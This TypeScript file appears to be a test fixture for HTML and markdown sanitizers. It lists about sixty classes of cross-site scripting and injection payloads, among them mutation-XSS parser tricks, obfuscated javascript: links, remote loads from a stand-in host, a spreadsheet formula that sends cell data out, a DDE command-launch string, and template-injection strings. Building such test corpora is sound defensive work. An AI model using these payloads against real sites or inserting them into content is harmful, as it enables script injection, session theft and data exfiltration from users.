/** Texts of the classes with which sanitizers are attacked. Each would call `hit(name)`, or ask another host, if it ran. */

const HOST = 'https://evil.example'

/** What runs: with the class in it, so that a failure says which. */
const act = (name: string): string => `hit('${name}')`

const classes: Readonly<Record<string, (run: string) => string>> = {
  // Elements that run by themselves.
  script: (run) => `<script>${run}</script>`,
  'script-unclosed': (run) => `<script>${run}//`,
  'script-split': (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  'script-far': () => `<script src="${HOST}/a.js"></script>`,
  'image-error': (run) => `<img src=x onerror=${run}>`,
  'image-slashes': (run) => `<img/src=x/onerror=${run}>`,
  'image-unclosed': (run) => `<img src=x onerror=${run} `,
  'video-source': (run) => `<video><source onerror=${run}></video>`,
  'input-focus': (run) => `<input autofocus onfocus=${run}>`,
  details: (run) => `<details open ontoggle=${run}>`,
  iframe: (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  object: () => `<object data="${HOST}/a.swf"></object><embed src="${HOST}/b.swf">`,
  // Foreign content.
  svg: (run) => `<svg/onload=${run}>`,
  'svg-script': (run) => `<svg><script>${run}</script></svg>`,
  'svg-animate': (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  'svg-link': (run) => `<svg><a xlink:href="javascript:${run}"><text y="20">x</text></a></svg>`,
  'svg-use': () => `<svg><use href="${HOST}/a.svg#x"/></svg>`,
  'svg-style': (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'foreign-object': (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  math: (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'math-link': (run) =>
    `<math><maction actiontype="statusline#${HOST}" xlink:href="javascript:${run}">x</maction></math>`,
  'math-annotation': (run) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  // What is read otherwise the second time.
  'mutation-noscript': (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'mutation-textarea': (run) => `</textarea></title></style></noscript></template><img src=x onerror=${run}>`,
  'mutation-form': (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'mutation-list': (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  'mutation-xmp': (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  'mutation-cdata': (run) => `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  template: (run) =>
    `<template><img src=x onerror=${run}></template><div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  'processing-instruction': (run) =>
    `<?xml-stylesheet href="javascript:${run}"?><?x ><img src=x onerror=${run}>`,
  comment: (run) => `<!--><img src=x onerror=${run}>--><!--!><img src=x onerror=${run}>`,
  // Out of where they stand.
  'attribute-double': (run) => `"><img src=x onerror=${run}>`,
  'attribute-single': (run) => `'><img src=x onerror=${run}>`,
  'attribute-handler': (run) => `" autofocus onfocus=${run} onmouseover=${run} x="`,
  'attribute-backtick': (run) => `\`\` onerror=${run} \`<img src=\`x\` onerror=${run}>`,
  'script-end': (run) => `</script><script>${run}</script>`,
  'script-comment': (run) => `<!--<script>${run}</script>`,
  'style-end': (run) => `</style><script>${run}</script>`,
  'json-end': (run) => `"}]</script><script>${run}</script>`,
  'line-separator': (run) => `\u2028${run}\u2029;${run}//`,
  // Spelt otherwise.
  'entity-named': (run) => `&lt;img src=x onerror=${run}&gt;`,
  'entity-number': (run) => `&#60;img src=x onerror=${run}&#62;&#x3c;script>${run}&#x3c;/script>`,
  'entity-twice': (run) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  'entity-unended': (run) => `&ltimg src=x onerror=${run}&gt`,
  fullwidth: (run) => `＜script＞${run}＜/script＞`,
  nul: (run) => `<\0script>${run}</script><img src=x on\0error=${run}>`,
  // Addresses.
  link: (run) => `<a href="javascript:${run}" id=forms name=body>x</a>`,
  'link-entity': (run) => `<a href="jav&#x09;ascript&colon;${run}">x</a>`,
  'link-control': (run) => `<a href="\u0001java\nscript:${run}">x</a>`,
  'link-data': (run) =>
    `<a href="data:text/html,<script>${run}</script>">x</a><a href="vbscript:${run}">x</a>`,
  'link-markdown': (run) => `[x](javascript:${run}) [y](JaVaScRiPt:${run}) <javascript:${run}>`,
  'link-reference': (run) => `[x][r] [r]: javascript:${run}`,
  'image-markdown': (run) => `![x"onerror="${run}](${HOST}/a.png"onerror="${run})`,
  'image-far': () =>
    `<img src="${HOST}/a.png" srcset="//evil.example/b.png 2x"><picture><source srcset="${HOST}/c.png"></picture>`,
  base: () =>
    `<base href="${HOST}/"><link rel=stylesheet href="${HOST}/a.css"><meta http-equiv=refresh content="0;url=${HOST}/">`,
  form: () => `<form action="${HOST}/" id=x><button formaction="${HOST}/">x</button></form>`,
  // Looks.
  style: () => `<style>*{background:url(${HOST}/a.png);position:fixed;inset:0}</style>`,
  'style-attribute': () =>
    `<div style="position:fixed;inset:0;z-index:99999;background:url(${HOST}/b.png)">x</div>`,
  clobber: () =>
    `<img name=querySelector><form id=documentElement><input name=attributes></form><a id=hit></a>`,
  // Languages of templates.
  templates: (run) => `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %> {%raw%} #{${run}}`,
  mdx: (run) => `{${run}} <Fragment set:html="<img src=x onerror=${run}>" /> export const a = ${run}`,
  prototype: () => `__proto__ constructor toString`,
  // What is not for browsers.
  formula: () => `=HYPERLINK("${HOST}/?"&A1,"x") @SUM(1) +1+cmd|' /C calc'!A0`,
  terminal: () => `\u001b]8;;${HOST}\u0007x\u001b]8;;\u0007\u001b[2J\u009b31m\r`,
  bidi: () => `\u202e443\u2066 \u2067x\u2069\u202c`,
  long: () => 'W'.repeat(400),
}

/** By class. */
export const payloads: ReadonlyMap<string, string> = new Map(
  Object.entries(classes).map(([name, make]) => [name, make(act(name))]),
)

/** The host that no page may ask. */
export const EVIL = HOST
